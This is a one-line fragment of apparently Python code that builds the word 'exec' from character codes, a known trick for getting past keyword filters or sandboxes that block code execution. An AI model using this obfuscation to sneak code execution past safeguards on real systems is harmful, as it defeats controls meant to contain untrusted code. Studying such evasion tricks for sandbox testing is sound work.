name = chr(101) + chr(120) + chr(101) + chr(99)
